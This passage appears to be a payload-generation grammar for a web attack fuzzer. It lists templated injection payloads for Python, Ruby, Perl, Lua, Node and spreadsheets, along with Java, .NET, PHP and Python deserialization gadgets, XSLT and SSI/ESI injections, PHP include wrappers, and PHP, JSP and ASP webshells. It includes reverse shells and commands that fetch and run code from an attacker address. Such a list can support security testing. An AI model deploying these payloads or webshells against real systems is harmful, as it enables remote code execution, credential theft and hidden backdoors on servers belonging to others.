  require('fs').readdirSync('/')
  import('child_process').then(m=>m.exec('‹cmd›'))
  eval("‹~1›=require('child_process')")
  process.env
  require('net').connect(‹port›,'‹ip›')
  global['pro'+'cess'].mainModule.require('child_pro'+'cess').execSync('‹cmd›')
code/python 4: ‹pycall›
  ;‹pycall›
  ')+‹pycall›+('
  '+‹pycall›+'
  ");‹pycall›#
  eval("‹pycall›")
  exec("‹pycall›")
  exec(‹'¦"""›import os;os.system("‹cmd›")‹'¦"""›)
  eval(compile('for x in range(1):⏎ import os⏎ os.system("‹cmd›")','a','single'))
  lambda: ‹pycall›
  [x for x in ().__class__.__base__.__subclasses__() if x.__name__=='‹Popen¦catch_warnings¦_wrap_close›'][0]
  import os;os.system('‹cmd›')
  import os⏎os.system("‹cmd›")
  import subprocess; subprocess.check_output("‹cmd›",shell=True)
  import socket,subprocess,os;s=socket.socket();s.connect(("‹ip›",‹port›));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])
  @exec⏎@input⏎class X: pass
  def f(x=‹pycall›): pass
  @exec("raise Exception(__import__('subprocess').check_output('‹cmd›',shell=True))")⏎def foo():⏎  pass
  __builtins__.__dict__['__import__']('os').system('‹cmd›')
  f"{‹pycall›}"
  {"code":"‹pycall›"}
  getattr(__import__('o'+'s'),'sys'+'tem')('‹cmd›')
  [c for c in ().__class__.__bases__[0].__subclasses__() if c.__name__=='Popen'][0]('‹cmd›',shell=True)
pycall: __import__('os').system('‹cmd›')
  __import__("os").popen("‹cmd›").read()
  __import__('subprocess').‹check_output¦getoutput¦call¦Popen›('‹cmd›'‹¦,shell=True›)
  open('/etc/passwd').read()
  eval(__import__('base64').b64decode('‹b64!__import__("os").system("‹cmd›")›'))
  __import__('time').sleep(‹#1-20›)
  ().__class__.__bases__[0].__subclasses__()[‹#30-500›]('‹cmd›',shell=True)
  __import__('urllib.request').request.urlopen('http://‹addr›/')
  globals()['__builtins__']['eval']("__import__('os').system('‹cmd›')")
  exec(‹chrPlus!import os›)
  os.system('‹cmd›')
  str(__import__('os').environ)
code/ruby-perl-lua 3: system('‹cmd›')
  <%= system('‹cmd›') %>
  <%= ´‹cmd›´ %>
  <%= IO.popen('‹cmd›').read %>
  <%= File.open('/etc/passwd').read %>
  <%= Dir.entries('/') %>
  #{´‹cmd›´}
  #{system('‹cmd›')}
  #{%x|‹cmd›|}
  %x(‹cmd›)
  %x{‹cmd›}
  Kernel.‹system¦exec¦open›("‹¦|›‹cmd›")
  eval("´‹cmd›´")
  send(:system,'‹cmd›')
  __send__(:eval,"´‹cmd›´")
  | ‹cmd›
  Object.const_get("Kernel").system("‹cmd›")
  require 'open3';Open3.capture2e('‹cmd›')
  --- !ruby/object:Gem::‹Requirement¦Installer¦SpecFetcher›⏎‹requirements¦i›:⏎  !ruby/object:Gem::Package::TarReader⏎  io: &1 !ruby/object:Net::BufferedIO⏎    io: &1 !ruby/object:Gem::Package::TarReader::Entry⏎      read: 0⏎      header: "‹~3›"
  --- !ruby/hash:ActionDispatch::Routing::RouteSet::NamedRouteCollection⏎? ! ⏎  foo; ‹eval¦system›('‹cmd›')
  !ruby/object:ERB {src: "´‹cmd›´"}
  {"^o":"Gem::Installer","^c":"‹cmd›"}
  {"json_class":"Gem::Requirement","‹~3-6›":"´‹cmd›´"}
  BAhvOkBBY3RpdmVTdXBwb3J0OjpEZXByZWNhdGlvbjo6RGVwcmVjYXRlZEluc3RhbmNlVmFyaWFibGVQcm94e‹*40-160›
  BAhbCGMVR2VtOjpTcGVjRmV0Y2hlcmMTR2VtOjpJbnN0YWxsZXJVOhVHZW06OlJlcXVpcmVtZW5‹*40-160›
  use IO::Socket;system("‹cmd›");
  ;print ´‹cmd›´;
  @{[system("‹cmd›")]}
  @{[ ´‹cmd›´ ]}
  open(F,"‹cmd›|")
  {§x=´‹cmd›´}
  perl -e 'system("‹cmd›")'
  os.execute("‹cmd›")
  io.popen('‹cmd›'):read('*a')
  ';os.execute('‹cmd›')--
  ‹word›');os.execute("‹cmd›");--
  local f=io.popen("‹cmd›");return f:read("*a")
  eval "local h=io.popen('‹cmd›');return h:read('*a')" 0
  assert(loadstring('os.execute("‹cmd›")'))()
  package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0","luaopen_io")
  os:cmd("‹cmd›").
  System.cmd("sh",["-c","‹cmd›"])
  [exec ‹cmd›]
  =cmd|'/c ‹cmd›'!A‹#0-9›
  @SUM(1+1)*cmd|' /C ‹cmd›'!A0
  +cmd|'/C powershell IEX(wget ‹addr›/‹~1-4›)'!A0
  =HYPERLINK("http://‹addr›/?x="&A1,"‹word›")
  =IMPORTXML(CONCAT("http://‹addr›/?v=",CONCATENATE(A2:E2)),"//a")
  =WEBSERVICE("http://‹addr›/")
  -‹#1-9›+‹#1-9›+cmd|'/c ‹cmd›'!A0

code/java-serial [value,cookie,header] 3: rO0AB‹javab64›
  2× ‹b64bin!‹javaobj››
  H4sIAAAAAAAA‹*40-300›
  yv66vgAAA‹#0-9›‹*60-300›
  rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABc3IADGphdmEubmV0LlVSTJYlNzYa/ORyAwAHSQAIaGFzaENvZGVJAARwb3J0TAAJYXV0aG9yaXR5dAAS‹*30-200›
  rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlclXK9Q8Vy36lAgAC‹*40-300›
  rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7eHAAAAAC‹*40-300›
  aced0005‹%60-300›
  \xac\xed\x00\x05sr\x00‹backslashHex!‹~3-8››java.util.‹HashMap¦PriorityQueue¦HashSet›
  ‹javaobj›
javaobj: ¬í␀␅sr␀‹javacls›‹*8-20›␀L␀‹~3-9›t␀Ljava/lang/Object;xpsr␀:org.apache.commons.collections.functors.‹ChainedTransformer¦InvokerTransformer¦ConstantTransformer›t␀‹cmd›
  ¬í␀␅sr␀‹javacls›‹*10-60›xpw␈␀␀␀␃?@t␀‹host›t␀
javacls = java.util.HashMap java.util.PriorityQueue java.util.HashSet sun.reflect.annotation.AnnotationInvocationHandler javax.management.BadAttributeValueExpException java.net.URL com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl org.apache.commons.beanutils.BeanComparator org.hibernate.engine.spi.TypedValue java.rmi.server.UnicastRemoteObject
javab64: X‹*40-300›
  XNyA‹*40-400›
  XVyA‹*40-200›=
  Q‹*20-90›
  XcC‹*40-120›
code/json-type [body-json] 3: {"@type":"‹fastcls›","‹dataSourceName¦jndiName¦url›":"‹ldap¦rmi›://‹addr›/‹jpath›","autoCommit":true}
  {"‹~1-3›":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"‹~1-3›":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"‹ldap¦rmi›://‹addr›/‹jpath›","autoCommit":true}}
  {"@type":"java.net.Inet4Address","val":"‹host›"}
  {"@type":"java.net.InetSocketAddress"{"address":,"val":"‹host›"}}
  {"@type":"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl","_bytecodes":["yv66vgAAA‹*60-200›"],"_name":"‹~1-3›","_tfactory":{},"_outputProperties":{}}
  {"@type":"java.lang.AutoCloseable","@type":"‹~3-8›.‹^1›‹~3-8›","‹~3-8›":"‹json!‹cmd››"}
  {{"@type":"java.net.URL","val":"http://‹addr›"}:"‹~1›"}
  {"\u0040type":"‹fastcls›","dataSourceName":"‹ldap¦rmi›://‹addr›/‹jpath›"}
  ["‹jackcls›",{"‹~4-9›":"‹ldap¦rmi›://‹addr›/‹jpath›"}]
  {"‹~3-8›":["‹jackcls›","http://‹addr›/‹~1-5›.xml"]}
  {"§type":"System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35","MethodName":"Start","MethodParameters":{"§type":"System.Collections.ArrayList, mscorlib","§values":["cmd","/c ‹cmd›"]},"ObjectInstance":{"§type":"System.Diagnostics.Process, System, Version=4.0.0.0"}}
  {"§type":"‹netcls›, mscorlib","‹^1›‹~3-9›":"AAEAAAD/////AQAAAAAAAAA‹*40-200›"}
  {"__type":"‹netcls›","‹^1›‹~3-8›":"‹json!‹cmd››"}
  {"@class":"‹jackcls›","‹~3-8›":"‹ldap¦rmi›://‹addr›/‹jpath›"}
  {"command":"run","utilCmdArgs":"-c '‹cmd›'"}
  {"py/object":"__main__.Shell","py/reduce":[{"py/type":"os.system"},{"py/tuple":["‹json!‹cmd››"]}]}
  {"py/reduce":[{"py/function":"os.system"},["‹json!‹cmd››"]]}
  {"class":"‹javacls›","‹~3-8›":"T(java.lang.Runtime).getRuntime().exec('‹cmd›')"}
  {"predicate":"#{T(java.lang.Runtime).getRuntime().exec('‹cmd›')}","filters":[{"name":"AddResponseHeader","args":{"name":"Result","value":"#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{\"‹cmd›\"}).getInputStream()))}"}}]}
  {"dataSource":{"type":"h2","jdbc":"jdbc:h2:mem:;INIT=CREATE ALIAS EXEC AS '‹~3-6›'","‹~3-6›":"‹json!‹cmd››"}}
  {"update-queryresponsewriter":{"startup":"lazy","name":"velocity","class":"solr.VelocityResponseWriter","template.base.dir":"","solr.resource.loader.enabled":"true","params.resource.loader.enabled":"true"}}
  {"add-listener":{"event":"postCommit","name":"‹~3-9›","class":"solr.RunExecutableListener","exe":"sh","dir":"/bin/","args":["-c","‹json!‹cmd››"]}}
  {"script":"‹json!‹pycall››","‹~3-6›":‹n›}
  {"expression":"‹json!‹nodecall››","language":"javascript"}
  {"‹code¦expression¦formula¦script¦template›":"‹json!‹anycode››"}
fastcls = com.sun.rowset.JdbcRowSetImpl org.apache.xbean.propertyeditor.JndiConverter com.mchange.v2.c3p0.JndiRefForwardingDataSource org.apache.shiro.jndi.JndiObjectFactory br.com.anteros.dbcp.AnterosDBCPConfig org.apache.ibatis.datasource.jndi.JndiDataSourceFactory com.ibatis.sqlmap.engine.transaction.jta.JtaTransactionConfig Lcom.sun.rowset.JdbcRowSetImpl; org.apache.tomcat.dbcp.dbcp2.BasicDataSource
jackcls = com.sun.rowset.JdbcRowSetImpl ch.qos.logback.core.db.DriverManagerConnectionSource org.springframework.context.support.ClassPathXmlApplicationContext org.springframework.context.support.FileSystemXmlApplicationContext com.zaxxer.hikari.HikariConfig javax.swing.JEditorPane org.apache.xalan.lib.sql.JNDIConnectionPool com.caucho.config.types.ResourceRef
netcls = System.Windows.Data.ObjectDataProvider System.Security.Principal.WindowsIdentity System.Configuration.Install.AssemblyInstaller System.Security.Claims.ClaimsIdentity System.Windows.Forms.AxHost+State System.Activities.Presentation.WorkflowDesigner System.Workflow.ComponentModel.Serialization.ActivitySurrogateSelector
anycode: ‹pycall›
  ‹nodecall›
  ‹phpcall2›
  T(java.lang.Runtime).getRuntime().exec('‹cmd›')
  {{‹pychain›}}
  ‹js2›
code/net-serial [value,cookie] 2: AAEAAAD/////AQAAAAAAAAAM‹*60-400›
  AAEAAAD/////AQAAAAAAAAAEAQAAAC‹*60-300›
  /wEy‹*8-40›AAEAAAD/////AQAAAAAAAAAMAgAA‹*60-300›
  /wEyxBEAAQAAAP////8BAAAAAAAAAAwCAAAA‹*60-400›
  %2FwEy‹*60-300›%3D
  <ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:s="clr-namespace:System;assembly=mscorlib" xmlns:d="clr-namespace:System.Diagnostics;assembly=system"><ObjectDataProvider x:Key="" ObjectType="{x:Type d:Process}" MethodName="Start"><ObjectDataProvider.MethodParameters><s:String>cmd</s:String><s:String>/c ‹cmd›</s:String></ObjectDataProvider.MethodParameters></ObjectDataProvider></ResourceDictionary>
  <%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe","/c ‹cmd›"); %>
  @{System.Diagnostics.Process.Start("cmd.exe","/c ‹cmd›");}
  @System.Diagnostics.Process.Start("‹cmd›")
  @(1+2)@{ new System.Diagnostics.Process{StartInfo={FileName="cmd",Arguments="/c ‹cmd›"}}.Start(); }
  System.Diagnostics.Process.Start("cmd","/c ‹cmd›")
  ().GetType().Assembly.GetType("System.Diagnostics.Process").GetMethods()
code/python-serial [value,cookie] 3: ‹b64bin!‹pickle››
  ‹b64bin!‹pickle››
  ‹pickle›
  gASV‹*1-3›AAAAAAAAAC‹*30-160›
  gANjcG9zaXgKc3lzdGVtC‹*20-100›
  Y3Bvc2l4CnN5c3RlbQpwMAooU‹*20-80›
  Y29zCnN5c3RlbQooUyd‹*10-60›
  Y19fYnVpbHRpbl9fCmV2YWwKcDA‹*20-100›
  !!python/object/apply:‹os.system¦subprocess.check_output¦subprocess.Popen¦os.popen› ["‹cmd›"]
  !!python/object/apply:os.system⏎- ‹cmd›
  !!python/object/new:‹os.system¦tuple¦str¦exec› [‹cmd›]
  !!python/name:builtins.‹eval¦exec¦print›
  !!python/object/new:type⏎args: ["z", !!python/tuple [], {"extend": !!python/name:exec }]⏎listitems: "‹pycall›"
  !!python/module:‹os¦~3-8›
  ‹~3-8›: !!python/object/apply:os.system ["‹cmd›"]
  c__builtin__⏎eval⏎(S'‹pycall›'⏎tR.
pickle: cos⏎system⏎(S'‹cmd›'⏎tR.
  cposix⏎system⏎p0⏎(S'‹cmd›'⏎p1⏎tp2⏎Rp3⏎.
  csubprocess⏎check_output⏎(S'‹cmd›'⏎tR.
  c__builtin__⏎eval⏎(V‹pycall›⏎tR.
  5× ␟␄␞‹3¦␁¦A¦#¦:¦1›␀␀␀␀␀␀␀␝‹␅posix¦␂nt¦␂os›␜␝␆system␜␚␜␝‹␈¦␆¦#¦␍¦9›‹cmd›␜␙␜R␜.
  2× ␟␄␞‹A¦#¦:¦1›␀␀␀␀␀␀␀␝␈builtins␜␝␄eval␜␚␜␝‹#¦9¦M›‹pycall›␜␙␜R␜.
  2× ␟␃c‹posix¦nt¦os›⏎system⏎q␀X‹␈¦␆¦#›␀␀␀‹cmd›q␁␙q␂Rq␃.
  ␟␂csubprocess⏎check_output⏎q␁X‹␈¦␆¦#›␀␀␀‹cmd›q␂␙q␃Rq␄.
  ␟␄␞C␀␀␀␀␀␀␀␝␈__main__␜␝‹␅¦␆›‹^1›‹~3-7›␜␚␜)␁␜}␜␝␃cmd␜␝␈‹cmd›␜sb.
  csubprocess⏎Popen⏎((S'‹/bin/sh¦bash›'⏎S'-c'⏎S'‹cmd›'⏎ltR.
code/yaml-xml [value,body-xml] 2: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://‹addr›/‹~1-5›.jar"]]]]
  !!com.sun.rowset.JdbcRowSetImpl {dataSourceName: '‹ldap¦rmi›://‹addr›/‹jpath›', autoCommit: true}
  ‹~3-8›: !!org.springframework.context.support.ClassPathXmlApplicationContext ["http://‹addr›/‹~1-4›.xml"]
  !!org.springframework.beans.factory.config.PropertyPathFactoryBean {targetBeanName: "‹ldap¦rmi›://‹addr›/‹~1-3›"}
  <‹=t:‹sorted-set¦tree-map¦map››><‹~4-6›>‹~3-6›</‹~4-6›><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>‹/bin/sh¦cmd›</string><string>‹-c¦/C›</string><string>‹cmd›</string></command></target><action>start</action></handler></dynamic-proxy></‹=t›>
  <map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data"><dataHandler><dataSource class="com.sun.xml.internal.ws.encoding.xml.XMLMessage§XmlDataSource"><is class="javax.crypto.CipherInputStream"><cipher class="javax.crypto.NullCipher"/><iterator class="javax.imageio.spi.FilterIterator"><iter class="javax.imageio.spi.FilterIterator"><next class="java.lang.ProcessBuilder"><command><string>‹cmd›</string></command></next></iter></iterator></is></dataSource></dataHandler></value></jdk.nashorn.internal.objects.NativeString></entry></map>
  <soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java version="1.8" class="java.beans.XMLDecoder"><void class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3"><void index="0"><string>/bin/bash</string></void><void index="1"><string>-c</string></void><void index="2"><string>‹cmd›</string></void></array><void method="start"/></void></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>
  <beans xmlns="http://www.springframework.org/schema/beans"><bean id="‹~1-3›" class="java.lang.ProcessBuilder" init-method="start"><constructor-arg><list><value>‹sh¦bash¦cmd›</value><value>-c</value><value>‹cmd›</value></list></constructor-arg></bean></beans>
  <java><object class="java.lang.Runtime" method="getRuntime"><void method="exec"><string>‹cmd›</string></void></object></java>
  <methodCall><methodName>‹~3-8›</methodName><params><param><value><struct><member><name>‹~2-6›</name><value><serializable xmlns="http://ws.apache.org/xmlrpc/namespaces/extensions">rO0AB‹*40-200›</serializable></value></member></struct></value></param></params></methodCall>
  <wddxPacket version='1.0'><header/><data><struct type='xcom.sun.rowset.JdbcRowSetImplx'><var name='dataSourceName'><string>‹ldap¦rmi›://‹addr›/‹jpath›</string></var><var name='autoCommit'><boolean value='true'/></var></struct></data></wddxPacket>
  <xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"><xsl:template match="/"><xsl:value-of select="rt:exec(rt:getRuntime(),'‹cmd›')"/></xsl:template></xsl:stylesheet>
  <xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl"><xsl:template match="/"><xsl:value-of select="php:function('‹phpsink›','‹cmd›')"/></xsl:template></xsl:stylesheet>
  <xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:msxsl="urn:schemas-microsoft-com:xslt" xmlns:user="urn:‹~3-8›" version="1.0"><msxsl:script language="C#" implements-prefix="user"><![CDATA[public string x(){System.Diagnostics.Process.Start("cmd","/c ‹cmd›");return "";}]]></msxsl:script></xsl:stylesheet>
  <ogc:PropertyName>exec(java.lang.Runtime.getRuntime(),'‹cmd›')</ogc:PropertyName>
  <wfs:GetPropertyValue service='WFS' version='2.0.0' xmlns:wfs='http://www.opengis.net/wfs/2.0' valueReference='exec(java.lang.Runtime.getRuntime(),"‹cmd›")'><wfs:Query typeNames='‹~2-6›:‹~3-9›'/></wfs:GetPropertyValue>
  <wps:LiteralData>‹cmd›;java.lang.Runtime.getRuntime().exec("‹cmd›")</wps:LiteralData>
  <?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://‹addr›/‹~1-4›.xsl"?>
  <ac:parameter ac:name="_template">../../../../../../etc/passwd</ac:parameter><‹~3-5›>#set(§e="e")§e.getClass().forName("java.lang.Runtime")</‹~3-5›>
code/php-serial [value,cookie] 3: ‹phpobj›
  2× ‹b64!‹phpobj››
  a:‹#1-4›:{i:0;‹phpobj›i:1;i:‹#0-9›;}
  phar://‹¦./¦uploads/¦../›‹~3-8›.‹jpg¦phar¦gif¦png›/‹~1-4›
  phar:///‹tmp¦var/www/html›/‹~3-8›.‹jpg¦phar›
  ‹~3-8›|‹phpobj›
  }__test|‹phpobj›
phpobj: O:‹len!‹=c:‹phpcls›››:"‹=c›":‹#1-4›:{‹×1-3:‹phpString!‹~3-10››;‹phpval››}
  O:+‹#3-30›:"‹phpcls›":1:{‹phpString!‹~3-8››;‹phpval›}
  C:‹#3-30›:"‹phpcls›":‹#10-99›:{‹phpval›}
phpcls: ‹^1›‹~3-10›
  ‹^1›‹~3-8›\‹^1›‹~3-8›
  GuzzleHttp\Cookie\FileCookieJar
  GuzzleHttp\Psr7\FnStream
  Monolog\Handler\SyslogUdpHandler
  Monolog\Handler\BufferHandler
  Illuminate\Broadcasting\PendingBroadcast
  Symfony\Component\Process\Process
  JDatabaseDriverMysqli
  SimplePie
  SplFileObject
  SoapClient
  Exception
  PDO
  think\process\pipes\Windows
  Requests_Utility_FilteredIterator
  Zend_Log
  Swift_KeyCache_DiskKeyCache
  Evil
  Logger
phpval: ‹phpString!‹cmd››;
  ‹phpString!<?php ‹phpcall›?>›;
  ‹phpString!‹phpsink››;
  b:1;
  i:‹n›;
  ‹phpString!/var/www/html/‹~1-5›.php›;
  O:‹len!‹=d:‹phpcls›››:"‹=d›":1:{‹phpString!‹~3-8››;‹phpString!‹cmd››;}
  a:2:{i:0;‹phpString!‹phpsink››;i:1;‹phpString!‹cmd››;}
  N;
code/ssi 3: <!--#exec cmd="‹cmd›"-->
  <!--#exec cmd="‹cmd›" -->
  <!--#EXEC cmd="‹cmd›"-->
  <!--#include ‹virtual¦file›="‹/etc/passwd¦/‹word›.cgi¦../../../etc/passwd¦/¦web.config›"-->
  <!--#echo var="‹DATE_LOCAL¦DOCUMENT_ROOT¦HTTP_USER_AGENT¦REMOTE_ADDR¦DOCUMENT_NAME›" -->
  <!--#printenv-->
  <!--#printenv -->
  <!--#config errmsg="‹word›"-->
  "><!--#exec cmd="‹cmd›"-->
  <!--#odbc statement="select * from ‹tab›"-->
  <!--#flastmod file="‹word›.html"-->
  <!--#set var="‹~1-4›" value="‹word›"-->
  <!--#exec cgi="/cgi-bin/‹word›.cgi"-->
  <!-- #exec cmd='‹cmd›' -->
  <esi:include src="http://‹addr›/‹~1-6›"/>
  <esi:include src=http://‹addr›/‹~1-6› stylesheet="http://‹addr›/‹~1-4›.xsl"/>
  <esi:inline name="/‹~1-5›.js" fetchable="yes"><script>prompt(‹n›)</script></esi:inline>
  <esi:debug/>
  <esi:vars>§(HTTP_COOKIE)</esi:vars>
  §(HTTP_COOKIE{‹~3-9›})
  <esi:assign name="‹~1-3›" value="'‹cmd›'"/>
  <!--esi §add_header('‹^1›‹~3-8›','‹word›')-->
code/include 2: data://text/plain;base64,‹b64!<?php ‹phpcall› ?>›
  data://text/plain,<?php ‹phpcall› ?>
  data:text/plain;base64,‹b64!<?php ‹phpcall› ?>›
  data:,<?php ‹phpcall›?>
  expect://‹cmd›
  php://input
  http://‹addr›/‹~1-6›.‹txt¦php¦gif›‹?¦¦%00¦??›
  ftp://‹addr›/‹~1-6›.txt?
  zip://‹~2-8›.‹zip¦jpg›#‹~1-6›
  ‹php://filter/¦›‹×3-14|:convert.‹iconv.UTF8.‹CSISO2022KR¦UTF7¦UTF16¦CP1253›¦base64-decode¦base64-encode¦iconv.L6.UCS2¦iconv.ISO2022KR.UTF16››/resource=php://temp
  \\‹ip›\‹~2-6›\‹~1-5›.php
  https://‹addr›/‹~3-9›.php?cmd=‹cmd›
  compress.zlib://http://‹addr›/‹~1-5›
  ogg://‹~3-8›
  glob:///‹var/www¦etc›/*
code/coldfusion-misc 1: <cfexecute name="/bin/sh" arguments="-c '‹cmd›'" timeout="‹#1-9›"></cfexecute>
  #evaluate("‹~2-8›")#
  {"_variables":{"_metadata":{"classname":"i/../lib/password.properties"},"_variables":[]}}
  createObject("java","java.lang.Runtime").getRuntime().exec("‹cmd›")
  <cfset ‹~1-3›=createObject("java","java.lang.Runtime").getRuntime().exec("‹cmd›")>
  #set §‹~1-3›=§class.forName("java.lang.Runtime")
  vm.runInNewContext("this.constructor.constructor('return process')()")
  (0)('constructor')['constructor']('return process')()
  [].filter.constructor('‹nodecall›')()
  ‹word› or (‹nodecall›)
  IMPORT os FROM ‹~3›
  {{= it.constructor.constructor("‹nodecall›")()}}
  <%= global.process.mainModule.require('child_process').execSync('‹cmd›') %>
  <% out.println(new java.util.Scanner(Runtime.getRuntime().exec("‹cmd›").getInputStream()).useDelimiter("\\A").next()); %>
  {% set ‹~1›="‹cmd›" %}{{['‹cmd›']|filter('‹phpsink›')}}
  DynamicInvoke("system","‹cmd›")
  ExtOSCommand(‹cmd›)
  {{_openBlock.constructor('‹nodecall›')()}}

code/shell-php [file] 2: ‹magic›<?php ‹phpcall› ?>
  ‹magic›<?php ‹×1-3⏎:‹phpcall››⏎?>
  <?php if(isset(§_REQUEST['‹=p:‹~1-5››'])){echo "<pre>";§c=(§_REQUEST['‹=p›']);‹phpsink›(§c);echo "</pre>";die;}?>
  <?php §‹~1-4›=§_‹gvar›['‹~1-5›'];‹phpsink›(§‹~1-4›);unlink(__FILE__);?>
  ‹magic›<?=´§_‹gvar›[‹#0-9›]´;
  <?php @error_reporting(0);session_start();§key="‹%16›";§_SESSION['k']=§key;§post=file_get_contents("php://input");§post=openssl_decrypt(§post,"AES128",§key);§arr=explode('|',§post);@eval(§arr[1]);?>
  <?php §a=str_replace("‹~1›","","s‹~1›ystem");§a(§_‹gvar›["‹~1-3›"]);?>
  <?php echo md5('‹rnd›');unlink(__FILE__);?>
  <?php fsockopen("‹ip›",‹port›);exec("/bin/sh -i <&3 >&3 2>&3");?>
  <FilesMatch "‹~1-5›.jpg">⏎SetHandler application/x-httpd-php⏎</FilesMatch>
  AddType application/x-httpd-php .‹jpg¦png¦‹~2-5››
magic: 4× ∅
  GIF89a⏎
  GIF89a;⏎
  ÿØÿàJFIF
  PNG␍⏎
code/shell-jsp [file] 2: <% Runtime.getRuntime().exec(request.getParameter("‹~1-5›")); %>
  <%@ page import="java.util.*,java.io.*"%><% Process p=Runtime.getRuntime().exec(request.getParameter("‹~1-5›"));OutputStream os=p.getOutputStream();InputStream in=p.getInputStream();DataInputStream dis=new DataInputStream(in);String disr=dis.readLine();while(disr!=null){out.println(disr);disr=dis.readLine();}%>
  <% if("‹rnd›".equals(request.getParameter("pwd"))){java.io.InputStream in=Runtime.getRuntime().exec(request.getParameter("i")).getInputStream();int a=-1;byte[] b=new byte[2048];while((a=in.read(b))!=-1){out.println(new String(b));}} %>
  <%out.print("‹rnd›");new java.io.File(application.getRealPath(request.getServletPath())).delete();%>
  <%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%><%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%>
  <jsp:scriptlet>Runtime.getRuntime().exec(request.getParameter("‹~1-4›"));</jsp:scriptlet>
  §{Runtime.getRuntime().exec(param.‹~1-4›)}
code/shell-asp [file] 2: <%@ Page Language="‹C#¦Jscript›"%><%eval(Request.Item["‹~1-6›"],"unsafe");%>
  <%eval request("‹~1-6›")%>
  <%execute(request("‹~1-6›"))%>
  <%@ Page Language="C#" %><%@ Import Namespace="System.Diagnostics" %><script runat="server">void Page_Load(object s,EventArgs e){ProcessStartInfo p=new ProcessStartInfo("cmd.exe","/c "+Request["‹~1-5›"]);p.UseShellExecute=false;p.RedirectStandardOutput=true;Response.Write(Process.Start(p).StandardOutput.ReadToEnd());}</script>
  <% Set o=Server.CreateObject("WSCRIPT.SHELL"):Response.Write(o.Exec("cmd /c "&Request("‹~1-4›")).StdOut.ReadAll) %>
  <?xml version="1.0" encoding="UTF-8"?><configuration><system.webServer><handlers accessPolicy="Read, Script, Write"><add name="web_config" path="*.config" verb="*" modules="IsapiModule" scriptProcessor="%windir%\system32\inetsrv\asp.dll"/></handlers></system.webServer></configuration><!-- <% Response.write(CreateObject("WScript.Shell").Exec("cmd /c ‹cmd›").StdOut.ReadAll) %> -->
  <cfexecute name="cmd.exe" arguments="/c #url.‹~1-4›#" timeout="5"/>
  #!/bin/sh⏎echo Content-type: text/plain⏎echo⏎‹cmd›
  #!/usr/bin/perl⏎print "Content-type: text/html\n\n";⏎system(§ENV{'QUERY_STRING'});
ssi.end: 3× -->
  2× ␠-->
  --%3E
ssi.file: ‹~2-12›
  ‹~2-12›.‹html¦shtml¦txt¦inc¦cgi¦php¦conf¦log›
  ‹~2-8›_‹~2-8›
  /‹~2-8›/‹~2-8›.‹html¦txt¦cgi›
  ‹×1-6:../›‹etc/passwd¦‹~2-9››
ssi.command: ‹cmd›
  ‹dir¦ls¦id¦whoami¦cat ‹~2-9›¦ping ‹ip›¦ls -la›‹¦ ›
ssi.word = exec include echo config printenv set flastmod fsize if EXEC INCLUDE ECHO Exec Include
code/ssi-anywhere 4: 3× <!--#‹include¦INCLUDE¦Include¦‹mixed!include›› ‹file¦virtual¦FILE¦Virtual›=‹=q:‹"¦'¦››‹ssi.file›‹=q›‹ssi.end›
  3× <!--#‹exec¦EXEC¦Exec¦‹mixed!exec›› ‹cmd¦CMD¦cgi›=‹=q:‹"¦'››‹ssi.command›‹=q›‹ssi.end›
  <!--#‹ssi.word› ‹~2-9›=‹"¦'¦›‹ssi.file›‹"¦'¦›‹ssi.end›
  <!--#‹ssi.word›‹ssi.end›
  ‹">¦'>¦">‹'¦›¦/>¦--›<!--#‹exec¦EXEC› cmd="‹ssi.command›"‹ssi.end›‹<¦<"¦<!--¦›
  ‹">¦'>¦"/>¦-->›<!--#‹include¦INCLUDE¦echo¦ECHO› ‹file¦virtual¦var›="‹ssi.file›"‹ssi.end›‹<¦›
ca.fn = eval exec compile execfile assert print system popen passthru sleep print_r var_dump phpinfo md5 base64_decode call_user_func create_function include require Function setTimeout fetch load loads run spawn
ca.inner: ‹~1-6›
  ‹n›
  '‹~1-9›'
  "‹~1-9›"
  '‹cmd›'
  '‹cmd›','‹~1-4›','‹single¦exec¦eval›'
  'for ‹~1› in range(‹n›):\n import ‹time¦os¦sys›\n ‹time.sleep(‹n›)¦os.system("‹~2-5›")›','‹~1-3›','‹single¦exec›'
